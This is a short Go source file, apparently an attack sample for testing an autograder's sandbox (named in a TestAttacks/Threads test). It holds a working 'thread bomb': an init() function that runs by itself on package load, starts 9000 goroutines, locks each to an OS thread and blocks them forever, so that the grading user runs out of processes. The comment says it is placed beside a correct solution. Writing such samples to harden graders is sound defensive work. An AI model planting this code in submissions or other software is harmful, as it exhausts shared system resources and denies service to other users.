// The thread bomb: as many threads as the Go runtime lets it start (each
// goroutine locked to a thread of its own, blocked for ever), so that the
// instructor's user runs out of processes (TestAttacks/Threads). It goes
// beside a correct solution.
package echo

import "runtime"

func init() {
	for range 9000 {
		go func() {
			runtime.LockOSThread()
			select {}
		}()
	}
}
